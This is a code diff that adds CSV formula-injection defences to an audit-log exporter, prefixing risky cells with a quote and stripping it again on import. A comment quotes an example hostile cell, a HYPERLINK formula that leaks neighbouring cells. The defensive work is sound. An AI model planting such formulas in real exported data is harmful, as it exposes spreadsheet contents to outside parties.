@@ -81,9 +81,28 @@ export function toJsonLine(e: AuditEntry): string {
   return `${JSON.stringify(exportRecordOf(e))}\n`;
 }
 
+/**
+ * A spreadsheet runs a cell that starts with = + - @ (or tab or CR, which
+ * some strip first) as a formula: a username like `=HYPERLINK("http://…"&A2)`
+ * would be a link that leaks the neighbouring cells. Such a cell is prefixed
+ * with a single quote (OWASP's advice), which shows the text as text. A cell
+ * that itself starts with a quote is prefixed too, so that `restoreFormulaCell`
+ * can strip exactly one quote and give back the bytes the hash covers.
+ */
+const formulaStart = /^[=+\-@\t\r']/;
+
+function neutraliseFormulaCell(text: string): string {
+  return formulaStart.test(text) ? `'${text}` : text;
+}
+
+function restoreFormulaCell(cell: string): string {
+  return cell.startsWith("'") && formulaStart.test(cell.slice(1)) ? cell.slice(1) : cell;
+}
+
 function csvCell(value: unknown): string {
-  const text =
-    value === null || value === undefined ? "" : typeof value === "object" ? JSON.stringify(value) : String(value);
+  const text = neutraliseFormulaCell(
+    value === null || value === undefined ? "" : typeof value === "object" ? JSON.stringify(value) : String(value),
+  );
   return /[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
 }
 
@@ -270,7 +289,9 @@ function parseCsvRecords(text: string): ParsedRecord[] {
   return rows.map(({ line, cells }) => {
     if (cells.length !== exportColumns.length)
       return { line, error: `${cells.length} fields, expected ${exportColumns.length}` };
-    const raw: Record<string, unknown> = Object.fromEntries(exportColumns.map((c, i) => [c, cells[i]]));
+    const raw: Record<string, unknown> = Object.fromEntries(
+      exportColumns.map((c, i) => [c, restoreFormulaCell(cells[i] ?? "")]),
+    );
     raw.task_id = raw.task_id === "" ? null : raw.task_id;
     try {
       raw.details = JSON.parse(String(raw.details));
